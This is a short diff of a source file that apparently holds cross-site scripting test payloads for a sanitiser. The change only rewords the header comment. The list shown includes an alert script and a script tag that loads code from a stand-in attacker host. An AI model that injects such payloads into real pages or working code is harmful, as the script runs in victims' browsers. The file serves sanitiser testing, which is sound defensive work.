@@ -1,4 +1,4 @@
-/** Ways to smuggle something that runs into a text, after the collections of OWASP, PortSwigger and the makers of sanitisers. */
+/** Cross-site scripting attacks by rich text, after the collections of OWASP, PortSwigger and the makers of sanitisers. */
 export const attacks = [
 	"<script>alert(1)</script>",
 	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
